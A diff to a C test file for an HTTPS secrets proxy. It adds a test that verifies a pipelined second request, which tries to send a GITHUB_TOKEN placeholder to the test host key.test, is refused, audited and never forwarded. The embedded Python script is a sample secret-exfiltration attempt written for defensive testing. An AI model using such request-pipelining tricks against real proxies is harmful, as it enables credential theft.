@@ -481,6 +481,54 @@ static void test_secrets__https_placeholder_of_another_secret_is_refused(void **
         close(fd);
 }
 
+/* Two requests written at once in one intercepted connection (a body of its own on the first, of a
+ * Content-Length or chunked with an extension and a trailer): each is checked, and the second's placeholder
+ * for another host is refused inside TLS after the first's answer, audited, and never reaches the host. */
+static const char pipelined_py[] =
+        "import os, socket, ssl, sys, urllib.parse\n"
+        "port, token = int(sys.argv[1]), os.environ['GITHUB_TOKEN'].encode()\n"
+        "body = (b'Transfer-Encoding: chunked\\r\\n\\r\\n5;x=y\\r\\nhello\\r\\n0\\r\\nX-T: 1\\r\\n\\r\\n'\n"
+        "        if sys.argv[2] == 'chunked' else b'Content-Length: 5\\r\\n\\r\\nhello')\n"
+        "p = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])\n"
+        "s = socket.create_connection((p.hostname, p.port))\n"
+        "s.sendall(b'CONNECT key.test:%d HTTP/1.1\\r\\nHost: key.test\\r\\n\\r\\n' % port)\n"
+        "head = b''\n"
+        "while not head.endswith(b'\\r\\n\\r\\n'): head += s.recv(1)\n"
+        "t = ssl.create_default_context().wrap_socket(s, server_hostname='key.test')\n"
+        "t.sendall(b'GET /pipe-one HTTP/1.1\\r\\nHost: key.test\\r\\n' + body +\n"
+        "          b'GET /pipe-leak HTTP/1.1\\r\\nHost: key.test\\r\\nX-Token: ' + token + "
+        "b'\\r\\n\\r\\n')\n"
+        "out = b''\n"
+        "try:\n"
+        "    while True:\n"
+        "        d = t.recv(65536)\n"
+        "        if not d: break\n"
+        "        out += d\n"
+        "except (ssl.SSLError, OSError): pass\n"
+        "sys.stdout.write(out.decode())\n";
+
+static void test_secrets__https_pipelined_request_is_checked(void **state) {
+        static const char *const framings[] = {"length", "chunked"};
+        (void) state;
+
+        for (size_t i = 0; i < 2; i++) {
+                char env[32];
+                snprintf(env, sizeof(env), "secrets-pipe-%s", framings[i]);
+                int fd = attach(env, NULL);
+                cJSON *r = sh(fd, 1, "cat > /tmp/pipe.py <<'EOF'\n%sEOF\npython3 /tmp/pipe.py %d %s",
+                              pipelined_py, g.tls_port, framings[i]);
+                const char *out = sc_str(r, "stdout");
+                if (!strstr(out, "authenticated\n") || !strstr(out, "403 Forbidden") ||
+                    !strstr(out, "X-Brig-Reason: the placeholder of secret GITHUB_TOKEN"))
+                        fail_msg("pipelined (%s): %s %s", framings[i], out, sc_str(r, "stderr"));
+                cJSON_Delete(r);
+                assert_secret_event("secret_exfiltration_refused", "key.test", "GITHUB_TOKEN", env);
+                close(fd);
+        }
+        assert_true(server_saw("/pipe-one"));
+        assert_false(server_saw("/pipe-leak"));
+}
+
 /* brigd's own connection upstream verifies like a client: a certificate for another name, or from a CA
  * it does not trust, is refused and nothing is sent. */
 static void test_secrets__https_upstream_must_verify(void **state) {
@@ -713,6 +761,7 @@ int main(void) {
                 cmocka_unit_test(test_secrets__https_placeholder_with_node),
                 cmocka_unit_test(test_secrets__https_header_template),
                 cmocka_unit_test(test_secrets__https_placeholder_of_another_secret_is_refused),
+                cmocka_unit_test(test_secrets__https_pipelined_request_is_checked),
                 cmocka_unit_test(test_secrets__https_upstream_must_verify),
                 cmocka_unit_test(test_secrets__jail_trusts_its_ca),
                 cmocka_unit_test(test_secrets__ca_that_cannot_be_made_fails_closed),
